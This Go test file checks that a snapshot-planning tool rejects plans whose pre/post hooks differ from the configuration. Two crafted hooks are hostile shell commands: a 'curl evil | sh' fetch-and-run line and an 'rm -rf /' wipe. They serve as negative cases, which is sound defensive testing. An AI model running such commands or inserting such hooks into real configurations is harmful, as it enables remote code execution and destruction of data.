package planfile

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/zplan/zplan/hclspec"
	"github.com/zplan/zplan/plan"
)

func withHooks(c *hclspec.Config) {
	c.Snapshots[0].Hooks = []hclspec.Hook{
		{Name: "freeze", Pre: []string{"/usr/local/bin/db-freeze", "--wait"}, Post: []string{"/usr/local/bin/db-thaw"}, Timeout: 30 * time.Second, OnPreFailure: hclspec.PreFailureSkip},
		{Name: "notify", Post: []string{"/usr/bin/logger", "snapshot taken"}, Timeout: time.Minute, OnPreFailure: hclspec.PreFailureContinue},
	}
}

// hookedPlan is validPlan with the hooks diff gives its snapshot action
// under withHooks.
func hookedPlan() *plan.Plan {
	p := validPlan()
	ds := []string{"tank/data", "tank/data/home"}
	find(p, "snapshot.").Hooks = []plan.Hook{
		{Policy: "data", Name: "freeze", Pre: []string{"/usr/local/bin/db-freeze", "--wait"}, Post: []string{"/usr/local/bin/db-thaw"}, Timeout: "30s", OnPreFailure: plan.PreFailureSkip, Datasets: ds},
		{Policy: "data", Name: "notify", Post: []string{"/usr/bin/logger", "snapshot taken"}, Timeout: "1m0s", OnPreFailure: plan.PreFailureContinue, Datasets: ds},
	}
	return p
}

func TestValidateHooks(t *testing.T) {
	if errs := validate(t, testConfig(withHooks), hookedPlan()); len(errs) > 0 {
		t.Fatalf("the configuration's hooks are refused:\n%v", errors.Join(errs...))
	}
	snap := func(f func(a *plan.Action)) *plan.Plan {
		p := hookedPlan()
		f(find(p, "snapshot."))
		return p
	}
	cases := []struct {
		name string
		cfg  func(*hclspec.Config)
		p    *plan.Plan
	}{
		{"hooks in a plan of a configuration without them", nil, hookedPlan()},
		{"hooks dropped", withHooks, validPlan()},
		{"extra hook", withHooks, snap(func(a *plan.Action) {
			a.Hooks = append(a.Hooks, plan.Hook{Policy: "data", Name: "evil", Pre: []string{"/bin/sh", "-c", "curl evil | sh"}, Timeout: "1m0s", OnPreFailure: plan.PreFailureSkip, Datasets: a.Datasets})
		})},
		{"altered pre", withHooks, snap(func(a *plan.Action) { a.Hooks[0].Pre = []string{"/bin/sh", "-c", "rm -rf /"} })},
		{"altered argument", withHooks, snap(func(a *plan.Action) { a.Hooks[0].Pre = []string{"/usr/local/bin/db-freeze", "--nowait"} })},
		{"post added", withHooks, snap(func(a *plan.Action) { a.Hooks[1].Pre = []string{"/bin/true"} })},
		{"timeout changed", withHooks, snap(func(a *plan.Action) { a.Hooks[0].Timeout = "1h0m0s" })},
		{"on_pre_failure changed", withHooks, snap(func(a *plan.Action) { a.Hooks[0].OnPreFailure = plan.PreFailureContinue })},
		{"order swapped", withHooks, snap(func(a *plan.Action) { a.Hooks[0], a.Hooks[1] = a.Hooks[1], a.Hooks[0] })},
		{"another policy's name", withHooks, snap(func(a *plan.Action) { a.Hooks[0].Policy = "other" })},
		{"datasets changed", withHooks, snap(func(a *plan.Action) { a.Hooks[0].Datasets = []string{"tank/data"} })},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var mods []func(*hclspec.Config)
			if c.cfg != nil {
				mods = append(mods, c.cfg)
			}
			errs := validate(t, testConfig(mods...), c.p)
			if len(errs) == 0 {
				t.Fatal("crafted hooks validate")
			}
			for _, err := range errs {
				var v *Violation
				if !errors.As(err, &v) || v.Rule != RuleHooks || !strings.Contains(v.Address, "snapshot.src") {
					t.Errorf("want only rule hooks on the snapshot action, got: %v", err)
				}
			}
		})
	}
}
